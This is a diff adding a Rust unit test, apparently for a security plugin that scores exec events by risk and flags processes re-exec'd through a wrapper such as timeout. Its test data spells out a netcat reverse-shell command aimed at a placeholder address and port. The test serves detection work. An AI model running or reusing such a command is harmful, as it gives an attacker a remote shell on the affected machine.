@@ -434,3 +434,24 @@ fn contact_is_the_cargo_toml_repository() {
         "Plugin::CONTACT is Cargo.toml's repository"
     );
 }
+
+#[test]
+fn a_wrapper_chain_marks_the_repeat() {
+    // `timeout 10 nc ..` (tid 960 in the table) re-execs nc with the same arguments.
+    let argv = ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"];
+    let child = Exec::new(2_000, 961, 960, "/usr/bin/nc.traditional", &argv);
+    let alone = Exec::new(2_001, 962, 901, "/usr/bin/nc.traditional", &argv);
+    let mut h = Harness::new(c"{}", true, vec![child.to_bytes(), alone.to_bytes()]);
+    let ev = h.next_event();
+    assert!(matches!(h.field(&ev, "triage.risk"), ExtractedField::U64(r) if r >= 80));
+    assert_eq!(
+        h.field(&ev, "triage.repeat_of_parent"),
+        ExtractedField::Bool(true)
+    );
+    // The same exec started by the login shell is the first of its chain.
+    let ev = h.next_event();
+    assert_eq!(
+        h.field(&ev, "triage.repeat_of_parent"),
+        ExtractedField::Bool(false)
+    );
+}
